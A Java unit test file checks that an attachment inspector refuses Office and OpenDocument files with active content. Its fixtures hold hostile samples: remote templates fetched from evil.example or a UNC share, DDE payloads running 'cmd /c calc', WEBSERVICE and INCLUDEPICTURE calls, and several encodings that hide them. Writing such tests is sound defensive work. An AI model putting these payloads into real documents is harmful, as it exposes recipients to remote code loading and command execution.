// SPDX-License-Identifier: EUPL-1.2
package fr.essaim.attachment.inspection;

import static fr.essaim.attachment.inspection.SampleFiles.bytes;
import static fr.essaim.attachment.inspection.SampleFiles.with;
import static fr.essaim.attachment.inspection.SampleFiles.word;
import static fr.essaim.attachment.inspection.SampleFiles.zip;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatExceptionOfType;
import static org.junit.jupiter.params.provider.Arguments.arguments;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.Random;
import java.util.stream.Stream;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Office documents that load or run something, written in every way in which office programs still understand them. */
@Timeout(8)
class OfficeInspectionTest {

    private static final String RELS = "word/_rels/settings.xml.rels";
    private static final String TYPE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/";
    private static final String SPACE = "xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"";

    @TempDir
    Path folder;

    static Stream<Arguments> templates() {
        String plain = "<Relationships " + SPACE + "><Relationship Id=\"r1\" Type=\"" + TYPE
                + "attachedTemplate\" Target=\"http://evil.example/t.dotm\" TargetMode=\"External\"/></Relationships>";
        byte[] noise = new byte[3 << 20];
        new Random(1).nextBytes(noise);
        String comment = "<!--" + new String(noise, StandardCharsets.ISO_8859_1).replaceAll("[^a-zA-Z0-9]", "") + "-->";
        return Stream.of(
                arguments("plain", RELS, bytes(plain)),
                arguments("single quotes", RELS, bytes(plain.replace('"', '\''))),
                arguments(
                        "a prefix",
                        RELS,
                        bytes(plain.replace("xmlns=", "xmlns:p=")
                                .replace("<Rel", "<p:Rel")
                                .replace("</Rel", "</p:Rel"))),
                arguments("UTF-16", RELS, plain.getBytes(StandardCharsets.UTF_16)),
                arguments(
                        "UTF-16 told by its first sign",
                        RELS,
                        ("<?xml version=\"1.0\" encoding=\"UTF-16LE\"?>" + plain).getBytes(StandardCharsets.UTF_16LE)),
                arguments(
                        "characters by number",
                        RELS,
                        bytes(plain.replace("attached", "&#97;ttached").replace("External", "&#x45;xternal"))),
                arguments(
                        "behind a megabyte", RELS, bytes(plain.replace("<Relationship ", comment + "<Relationship "))),
                arguments("an ending in capitals", "word/_rels/settings.xml.RELS", bytes(plain)),
                arguments("a name as in an address", "word/_rels/settings.xml.%72els", bytes(plain)),
                arguments(
                        "another case",
                        RELS,
                        bytes(plain.replace("External", "EXTERNAL").replace("TargetMode", "targetmode"))),
                arguments("no mode but an address", RELS, bytes(plain.replace(" TargetMode=\"External\"", ""))),
                arguments("a picture from elsewhere", RELS, bytes(plain.replace("attachedTemplate", "image"))),
                arguments(
                        "a share of a network",
                        RELS,
                        bytes(plain.replace("http://evil.example/t.dotm", "\\\\evil.example\\t.dotm"))));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("templates")
    void a_template_from_elsewhere_is_refused(String how, String name, byte[] relations) throws IOException {
        refused(with(word(), name, relations));
    }

    static Stream<Arguments> active() {
        return Stream.of(
                arguments(
                        "dde link of a workbook",
                        part(
                                "xl/externalLinks/externalLink1.xml",
                                "<x:externalLink xmlns:x='x'><x:ddeLink ddeService='cmd' ddeTopic='/c calc'/></x:externalLink>")),
                arguments(
                        "dde in a formula", part("xl/worksheets/sheet1.xml", "<s><c><f>cmd|'/c calc'!A0</f></c></s>")),
                arguments(
                        "dde behind a name",
                        part(
                                "xl/workbook.xml",
                                "<w><definedNames><definedName name='a'>cmd|'/c calc'!A0</definedName></definedNames></w>")),
                arguments(
                        "web service",
                        part(
                                "xl/worksheets/sheet1.xml",
                                "<s><c><f>_xlfn.WEBSERVICE(\"http://evil.example\")</f></c></s>")),
                arguments("data connection", part("xl/connections.xml", "<connections/>")),
                arguments(
                        "dde field in pieces",
                        part(
                                "word/document.xml",
                                "<d><fldChar fldCharType='begin'/><instrText> DD</instrText><instrText>EAUTO c:\\\\cmd</instrText><fldChar fldCharType='end'/></d>")),
                arguments(
                        "simple dde field",
                        part("word/document.xml", "<w:d xmlns:w='w'><w:fldSimple w:instr=' dde excel '/></w:d>")),
                arguments(
                        "picture field",
                        part(
                                "word/document.xml",
                                "<d><instrText>INCLUDEPICTURE \"http://evil.example/a.png\"</instrText></d>")),
                arguments("imported page", part("word/document.xml", "<w:d xmlns:w='w'><w:altChunk/></w:d>")),
                arguments("buttons of its own", part("customUI/customUI14.xml", "<customUI/>")),
                arguments("active x", part("word/activeX/activeX1.xml", "<ocx/>")),
                arguments("embedded file", part("word/embeddings/sheet.xlsx", "x")),
                arguments(
                        "program of a slide",
                        part("ppt/slides/slide1.xml", "<p><hlinkClick action='ppaction://program'/></p>")),
                arguments("macro sheet", part("xl/macrosheets/sheet1.xml", "<m/>")),
                arguments("fraction around it", part("word/document.xml", "<d><f><num><altChunk/></num></f></d>")));
    }

    private static Map<String, byte[]> part(String name, String content) {
        Map<String, byte[]> parts = new LinkedHashMap<>(word());
        parts.put(name, bytes(content));
        return parts;
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("active")
    void what_runs_or_loads_is_refused(String what, Map<String, byte[]> parts) throws IOException {
        refused(parts);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<o:document xmlns:o='o' xmlns:s='s'><s:event-listener s:name='dom:load'/></o:document>",
                "<o:document xmlns:o='o' xmlns:t='t'><t:dde-connection-decl/></o:document>",
                "<o:document xmlns:o='o' xmlns:d='d' xmlns:xlink='l'><d:image xlink:href='http://evil.example/a.png'/></o:document>",
                "<o:document xmlns:o='o' xmlns:d='d' xmlns:xlink='l'><d:image xlink:href='\\\\evil.example\\a.png'/></o:document>",
                "<o:document xmlns:o='o' xmlns:t='t' xmlns:xlink='l'><t:a xlink:href='vnd.sun.star.script:x'/></o:document>",
                "<o:document xmlns:o='o' xmlns:m='m' xmlns:xlink='l'><m:template xlink:href='https://evil.example/t.ott'/></o:document>",
                "<o:document xmlns:o='o' xmlns:t='t'><t:cell t:formula='of:=DDE(\"soffice\";\"x\";\"y\")'/></o:document>",
                "<o:document xmlns:o='o' xmlns:t='t' xmlns:xlink='l'><t:section-source xlink:href='http://evil.example'/></o:document>"
            })
    void an_open_document_that_runs_or_loads_is_refused(String content) throws IOException {
        refused(open(content));
    }

    private static Map<String, byte[]> open(String content) {
        Map<String, byte[]> parts = new LinkedHashMap<>();
        parts.put("mimetype", bytes("application/vnd.oasis.opendocument.text"));
        parts.put("content.xml", bytes(content));
        return parts;
    }

    @ParameterizedTest
    @ValueSource(strings = {"hyperlink"})
    void links_to_follow_are_taken(String kind) throws IOException {
        String relations = "<Relationships " + SPACE + "><Relationship Id=\"r1\" Type=\"" + TYPE + kind
                + "\" Target=\"https://ville.example/\" TargetMode=\"External\"/><Relationship Id=\"r2\" Type=\"" + TYPE
                + "styles\" Target=\"styles.xml\"/></Relationships>";
        Map<String, byte[]> parts = part(
                "word/document.xml",
                "<d><instrText> HYPERLINK \"https://ville.example/DDE\" </instrText><instrText>PAGE</instrText><m:f xmlns:m=\"http://schemas.openxmlformats.org/officeDocument/2006/math\"><m:t>P(A|B)</m:t></m:f></d>");
        parts.put("word/_rels/document.xml.rels", bytes(relations));

        assertThat(inspected(parts)).isEqualTo(AttachmentType.DOCX);
        assertThat(
                        inspected(
                                open(
                                        "<o:d xmlns:o='o' xmlns:t='t' xmlns:xlink='l'><t:a xlink:href='https://ville.example'/><t:scripts/><t:image xlink:href='Pictures/a.png'/></o:d>")))
                .isEqualTo(AttachmentType.ODT);
    }

    private void refused(Map<String, byte[]> parts) {
        assertThatExceptionOfType(AttachmentRefusedException.class)
                .isThrownBy(() -> inspected(parts))
                .satisfies(refusal -> assertThat(refusal.messageKey()).isEqualTo("attachment.active-content"));
    }

    private AttachmentType inspected(Map<String, byte[]> parts) throws IOException {
        return OfficeInspection.type(Files.write(folder.resolve("sent"), zip(parts)));
    }
}
